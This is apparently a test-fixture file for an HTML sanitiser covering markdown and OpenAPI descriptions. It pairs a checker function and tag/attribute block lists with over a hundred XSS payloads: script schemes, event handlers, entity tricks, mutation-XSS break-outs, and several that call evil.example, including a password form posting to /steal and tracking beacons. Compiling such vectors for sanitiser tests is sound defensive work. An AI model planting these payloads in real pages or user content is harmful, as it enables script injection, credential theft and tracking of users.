import * as cheerio from 'cheerio';

/**
 * XSS vectors for the sanitiser tests (markdown and OpenAPI descriptions): the issue's own, and a
 * cheat-sheet's worth more (OWASP XSS filter evasion, the HTML5 security cheat sheet, mXSS notes),
 * written here. `unsafeParts` checks rendered HTML the way a browser would parse it.
 */

export const FORBIDDEN_TAGS = [
  'script',
  'style',
  'form',
  'meta',
  'link',
  'base',
  'object',
  'embed',
  'svg',
  'animate',
  'set',
  'math',
  'frame',
  'frameset',
  'template',
  'button',
  'textarea',
  'select',
  'applet',
  'portal',
];
const URL_ATTRIBUTES = [
  'href',
  'src',
  'action',
  'formaction',
  'xlink:href',
  'poster',
  'background',
  'data',
  'cite',
  'srcset',
  'srcdoc',
  'ping',
  'codebase',
  'dynsrc',
  'lowsrc',
];

/** Everything that could run script or leave the page, checked on the rendered HTML as a browser would parse it. */
export function unsafeParts(html: string): string[] {
  const $ = cheerio.load(html);
  const found: string[] = [];
  $('*').each((_, el) => {
    if (el.type !== 'tag') return;
    if (FORBIDDEN_TAGS.includes(el.tagName.toLowerCase())) found.push(`<${el.tagName}>`);
    if (el.tagName === 'iframe' && !/^https:\/\/www\.youtube-nocookie\.com\//.test(el.attribs.src ?? '')) found.push('foreign iframe');
    if (el.tagName === 'input' && el.attribs.type !== 'checkbox') found.push('input');
    for (const [name, value] of Object.entries(el.attribs)) {
      const lower = name.toLowerCase();
      if (lower.startsWith('on')) found.push(`${name}=`);
      if (lower === 'srcdoc' || lower === 'formaction' || lower === 'action' || lower === 'http-equiv') found.push(`${name}=`);
      const compact = value.replace(/[\s\u0000-\u001f]/g, '').toLowerCase();
      if (URL_ATTRIBUTES.includes(lower) && /^(javascript|vbscript|data|livescript|file):/.test(compact)) found.push(`${name}=${value}`);
      if (lower === 'style' && /url\(|expression\(|javascript:|@import/i.test(value)) found.push(`style=${value}`);
    }
  });
  return found;
}

/** The vectors and a cheat-sheet's worth more (OWASP XSS filter evasion, HTML5 security cheat sheet). */
export const VECTORS: [string, string][] = [
  ['svg animate href', '<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text x="20" y="20">click</text></a></svg>'],
  ['svg set onmouseover', '<svg><set attributeName="onmouseover" to="alert(1)"/></svg>'],
  ['svg onload', '<svg onload="alert(1)"></svg>'],
  ['svg script', '<svg><script>alert(1)</script></svg>'],
  ['svg xlink:href', '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>'],
  ['svg use data', '<svg><use href="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+"/></svg>'],
  ['page-wide style', '<style>body { display: none } a[href^="https"] { background: url(https://evil.example/x) }</style>'],
  [
    'form posting elsewhere',
    '<form action="https://evil.example/steal" method="post"><input name="password" type="password"><button>Log in</button></form>',
  ],
  ['formaction', '<button formaction="javascript:alert(1)">x</button><input type="submit" formaction="javascript:alert(2)">'],
  ['meta refresh', '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'],
  ['meta refresh data', '<meta http-equiv="refresh" content="0;url=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">'],
  ['object data', '<object data="javascript:alert(1)"></object>'],
  ['object data html', '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>'],
  ['embed', '<embed src="javascript:alert(1)">'],
  ['embed svg', '<embed src="data:image/svg+xml,<svg onload=alert(1)>">'],
  ['data: link', '<a href="data:text/html,<script>alert(1)</script>">x</a>'],
  ['data: image', '<img src="data:image/svg+xml,<svg onload=alert(1)>">'],
  ['iframe srcdoc', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
  ['iframe javascript', '<iframe src="javascript:alert(1)"></iframe>'],
  ['iframe foreign host', '<iframe src="https://evil.example/"></iframe>'],
  [
    'iframe allowed host with handler',
    '<iframe src="https://www.youtube-nocookie.com/embed/x" onload="alert(1)" srcdoc="<b>x</b>"></iframe>',
  ],
  ['mixed-case scheme', '<a href="JaVaScRiPt:alert(1)">x</a>'],
  ['scheme with tab', '<a href="jav\tascript:alert(1)">x</a>'],
  ['scheme with newline entity', '<a href="jav&#x0A;ascript:alert(1)">x</a>'],
  ['entity-encoded scheme', '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>'],
  ['hex entity scheme', '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">x</a>'],
  [
    'padded entity scheme',
    '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">x</a>',
  ],
  ['named entity colon', '<a href="javascript&colon;alert(1)">x</a>'],
  ['leading space scheme', '<a href=" javascript:alert(1)">x</a>'],
  ['vbscript', '<a href="vbscript:msgbox(1)">x</a>'],
  ['markdown link scheme', '[x](javascript:alert(1)) [y](JAVASCRIPT:alert(1)) ![z](javascript:alert(1))'],
  ['markdown reference link', '[x][r]\n\n[r]: javascript:alert(1)'],
  ['autolink scheme', '<javascript:alert(1)>'],
  ['img onerror', '<img src="x" onerror="alert(1)">'],
  ['img onerror no quotes', '<img src=x onerror=alert(1)>'],
  ['body onload', '<body onload="alert(1)">'],
  ['details ontoggle', '<details open ontoggle="alert(1)"><summary>s</summary>x</details>'],
  ['video poster', '<video poster="javascript:alert(1)" src="x.mp4"></video>'],
  ['video source onerror', '<video><source onerror="alert(1)"></video>'],
  ['audio src', '<audio src="javascript:alert(1)"></audio>'],
  ['math href', '<math href="javascript:alert(1)"><mi>x</mi></math>'],
  ['base href', '<base href="https://evil.example/">'],
  ['link stylesheet', '<link rel="stylesheet" href="https://evil.example/x.css">'],
  ['link import', '<link rel="import" href="https://evil.example/x.html">'],
  ['style url', '<div style="background:url(javascript:alert(1))">x</div>'],
  ['style escaped url', '<div style="background:\\75 rl(https://evil.example/track)">x</div>'],
  ['style expression', '<div style="width: expression(alert(1))">x</div>'],
  ['style covering the page', '<div style="position: fixed; inset: 0; z-index: 9999">Log in again</div>'],
  ['style comment hidden url', '<div style="background:u/**/rl(https://evil.example/)">x</div>'],
  ['table background', '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>'],
  ['template', '<template><script>alert(1)</script></template>'],
  ['noscript break-out', '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'],
  ['textarea break-out', '<textarea><img src=x onerror=alert(1)></textarea>'],
  ['title break-out', '<title><img src=x onerror=alert(1)></title>'],
  ['comment break-out', '<!--><img src=x onerror=alert(1)>-->'],
  ['cdata', '<![CDATA[><img src=x onerror=alert(1)>]]>'],
  ['isindex', '<isindex type=image src=1 onerror=alert(1)>'],
  ['keygen', '<keygen autofocus onfocus=alert(1)>'],
  ['marquee', '<marquee onstart=alert(1)>x</marquee>'],
  ['input autofocus', '<input autofocus onfocus=alert(1)>'],
  ['select', '<select autofocus onfocus=alert(1)></select>'],
  ['frameset', '<frameset onload=alert(1)>'],
  ['a ping', '<a href="/ok" ping="https://evil.example/track">x</a>'],
  ['xmp', '<xmp><img src=x onerror=alert(1)></xmp>'],
  ['script in attribute name', '<div "onmouseover=alert(1)">x</div>'],
  ['uppercase handler', '<IMG SRC=x ONERROR=alert(1)>'],
  ['slash separated attribute', '<img/src="x"/onerror=alert(1)>'],
  ['nested script tags', '<scr<script>ipt>alert(1)</scr</script>ipt>'],
  ['mdx-less html in md', '<div dangerouslySetInnerHTML="{{__html: 1}}">x</div>'],
  ['dom clobbering form', '<form name="getElementById"></form><img name="cookie">'],
  ['img srcset', '<img src="/ok.png" srcset="javascript:alert(1) 1x, https://evil.example/x.png 2x">'],
  ['entity colon hex', '<a href="javascript&#x3A;alert(1)">x</a>'],
  ['entity tab in scheme', '<a href="java&Tab;script:alert(1)">x</a>'],
  ['control character before scheme', '<a href="\u0001javascript:alert(1)">x</a>'],
  ['svg foreignObject iframe', '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>'],
  ['math maction xlink', '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x<mtext>y</mtext></maction></math>'],
  ['mathml mglyph mXSS', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>'],
  ['svg style mXSS', '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">'],
  ['img vbscript', '<img src="vbscript:msgbox(1)">'],
  ['style url in quotes', '<div style="background-image: url(&quot;javascript:alert(1)&quot;)">x</div>'],
  ['style split expression', '<div style="width: expr/**/ession(alert(1))">x</div>'],
  ['link prefetch', '<link rel="prefetch" href="//evil.example/track">'],
  ['video source javascript', '<video><source src="javascript:alert(1)"></video>'],
  ['object scriptlet', '<object type="text/x-scriptlet" data="https://evil.example/x.sct"></object>'],
  ['applet', '<applet code="Evil.class" codebase="https://evil.example/"></applet>'],
  ['input image onerror', '<input type="image" src="x" onerror="alert(1)">'],
  ['button form formaction', '<form id="f"></form><button form="f" formaction="https://evil.example/">Go</button>'],
  ['iframe host suffix trick', '<iframe src="https://www.youtube-nocookie.com.evil.example/embed/x"></iframe>'],
  ['iframe host in fragment', '<iframe src="https://evil.example/#www.youtube-nocookie.com"></iframe>'],
  ['iframe allowed host over http', '<iframe src="http://www.youtube-nocookie.com/embed/x"></iframe>'],
  ['iframe data url', '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>'],
  ['markdown image data url', '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)'],
  ['markdown link entity scheme', '[x](&#106;avascript:alert(1))'],
  ['a with srcdoc-like attribute', '<a href="/ok" srcdoc="<script>alert(1)</script>" onfocus="alert(1)" autofocus>x</a>'],
  ['details onpointerenter', '<details onpointerenter="alert(1)"><summary onclick="alert(1)">s</summary></details>'],
  ['heading handler', '<h2 onmouseover="alert(1)">Title</h2>'],
  ['table cell background', '<table><tr><td background="javascript:alert(1)" style="background:url(//evil.example/x)">x</td></tr></table>'],
  ['embed in details', '<details><summary>s</summary><embed src="https://evil.example/x.swf"></details>'],
  ['meta in body', '<p>x</p><meta http-equiv="set-cookie" content="a=b">'],
  ['base in body', '<p>x</p><base href="javascript:alert(1)//">'],
  ['frame', '<frame src="javascript:alert(1)">'],
  ['portal element', '<portal src="https://evil.example/"></portal>'],
  ['dialog open over page', '<dialog open style="position:fixed;inset:0">Log in</dialog>'],
  [
    'svg animate values list',
    '<svg><a><animate attributeName="href" values="https://ok.example;javascript:alert(1)"/><text>x</text></a></svg>',
  ],
  ['noembed break-out', '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>'],
];
